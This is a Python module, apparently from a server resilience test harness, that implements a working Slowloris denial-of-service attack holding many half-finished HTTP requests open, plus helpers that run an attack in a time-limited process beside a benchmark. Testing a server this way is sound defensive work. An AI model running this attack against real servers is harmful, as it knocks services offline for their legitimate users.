"""Attacks on a server, each bounded in time and run in its own process
(:func:`start`) while a benchmark measures a normal client beside it."""

from __future__ import annotations

import asyncio
import concurrent.futures
import multiprocessing
import time
from collections.abc import Callable
from typing import Any

HALF_REQUEST = b"GET /api/tournaments/active HTTP/1.1\r\nHost: victim\r\n"


async def slow_loris(
    host: str, port: int, connections: int, seconds: float, dribble: float = 2.0
) -> dict[str, int]:
    """Hold ``connections`` connections that each send half a request, then one
    more header line every ``dribble`` seconds (so a timeout per read never
    fires); reopen any the server closes. Returns counts."""
    counts = {"opened": 0, "closed_by_server": 0, "refused": 0}
    deadline = time.monotonic() + seconds

    async def hold() -> None:
        while time.monotonic() < deadline:
            try:
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(host, port), max(0.1, deadline - time.monotonic())
                )
            except (OSError, asyncio.TimeoutError):
                counts["refused"] += 1
                await asyncio.sleep(0.2)
                continue
            counts["opened"] += 1
            try:
                writer.write(HALF_REQUEST)
                while time.monotonic() < deadline:
                    try:
                        data = await asyncio.wait_for(reader.read(1024), dribble)
                    except asyncio.TimeoutError:
                        writer.write(b"X-Slow: 1\r\n")
                        continue
                    if not data:
                        counts["closed_by_server"] += 1
                        break
            except OSError:
                counts["closed_by_server"] += 1
            finally:
                writer.close()
            await asyncio.sleep(0.05)

    await asyncio.gather(*(hold() for _ in range(connections)))
    return counts


def _run(attack: Callable[..., Any], args: tuple[Any, ...]) -> Any:
    return asyncio.run(attack(*args))


class Running:
    """An attack running in another process until its own time is up."""

    def __init__(self, attack: Callable[..., Any], *args: Any, limit: float = 120.0) -> None:
        context = multiprocessing.get_context("spawn")
        self._pool = concurrent.futures.ProcessPoolExecutor(1, mp_context=context)
        self._future = self._pool.submit(_run, attack, args)
        self._limit = limit

    def result(self) -> Any:
        """What the attack returned (waits at most ``limit`` seconds)."""
        try:
            return self._future.result(timeout=self._limit)
        finally:
            self._pool.shutdown(cancel_futures=True)


def start(attack: Callable[..., Any], *args: Any, limit: float = 120.0) -> Running:
    return Running(attack, *args, limit=limit)
